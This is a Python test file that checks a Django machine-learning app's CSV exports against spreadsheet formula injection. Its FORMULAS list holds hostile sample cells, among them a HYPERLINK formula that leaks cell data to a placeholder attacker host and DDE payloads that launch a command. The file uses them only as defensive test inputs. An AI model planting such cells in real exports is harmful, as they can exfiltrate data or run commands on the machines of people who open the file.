"""Every CSV we write opens in a spreadsheet as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.base import ContentFile

from automl_lite import wiring
from core.csv_safety import safe_row, spreadsheet_safe
from jobs.inference import model_cache
from tests.jobs.factories import store_dataset, store_job
from tests.jobs.models import GENTOO, PENGUINS_CSV, penguin_model, store_penguin_model
from training_image.contract import MODEL_CARD, JobStatus, artifact_key

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-foo",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_it_neutralises_a_formula(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.5", "-2", "-1e-3", "-2,5", "", "plain", "a=b", "1-2", "'x"])
def test_it_leaves_numbers_and_plain_text_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_safe_row_applies_the_rule_to_every_cell():
    assert safe_row(["=1", "-1.5", "ok", "@x"]) == ["'=1", "-1.5", "ok", "'@x"]


# --------------------------------------------------------------------------- in the files we write


@pytest.fixture
def formula_job(db, alice):
    """A completed job whose class labels themselves look like formulas."""
    model_cache.clear()
    dataset = store_dataset(alice, content=PENGUINS_CSV.read_bytes(), filename="penguins.csv")
    job = store_job(alice, dataset, status=JobStatus.COMPLETED)
    artifacts = store_penguin_model(job.job_id)
    _, card = penguin_model()
    labels = ["=Adelie", "+Chinstrap", "@Gentoo"]
    card = {**card, "classes": labels, "label_mapping": {str(i): c for i, c in enumerate(labels)}}
    storage = wiring.storage("models")
    storage.delete(artifact_key(job.job_id, MODEL_CARD))
    storage.save(artifact_key(job.job_id, MODEL_CARD), ContentFile(json.dumps(card).encode()))
    yield wiring.job_repository().update(job.job_id, artifacts=artifacts)
    model_cache.clear()


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _scored_file(notes: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["note", *GENTOO, "=HEADER()"])
    for note in notes:
        writer.writerow([note, *GENTOO.values(), "x"])
    return buffer.getvalue().encode()


@pytest.mark.django_db
def test_the_in_request_scorer_writes_no_live_formula(alice_client, formula_job):
    notes = [*FORMULAS[:3], "-1.5", "-foo"]
    response = alice_client.post(
        f"/api/jobs/{formula_job.job_id}/predictions",
        {"file": ContentFile(_scored_file(notes), name="rows.csv")},
    )
    assert response.status_code == 200, response.content
    header, *rows = _rows(b"".join(response.streaming_content))
    # A header is neutralised when it starts like a formula; ours start with "probability_".
    assert "'=HEADER()" in header
    assert header[-3:] == ["probability_=Adelie", "probability_+Chinstrap", "probability_@Gentoo"]
    assert [r[0] for r in rows] == ["'" + n for n in FORMULAS[:3]] + ["-1.5", "'-foo"]
    prediction = header.index("prediction")
    assert {r[prediction] for r in rows} == {"'@Gentoo"}
    assert all(not cell or cell[0] not in "=+@\t\r" for row in rows for cell in row)


@pytest.mark.django_db
def test_a_batch_result_writes_no_live_formula(alice_client, formula_job):
    content = _scored_file(["=1+2", "-7.25"])
    created = alice_client.post(
        f"/api/jobs/{formula_job.job_id}/batches",
        {"filename": "rows.csv", "size": len(content)},
        content_type="application/json",
    ).json()
    alice_client.put(created["upload"]["url"], content, content_type="text/csv")
    alice_client.post(created["confirm_url"])
    batch = alice_client.get(f"/api/jobs/{formula_job.job_id}/batches/{created['batch_id']}")
    download = alice_client.get(batch.json()["download_url"])
    header, *rows = _rows(b"".join(download.streaming_content))
    assert "'=HEADER()" in header and "probability_=Adelie" in header
    assert [r[0] for r in rows] == ["'=1+2", "-7.25"]
    assert {r[header.index("prediction")] for r in rows} == {"'@Gentoo"}
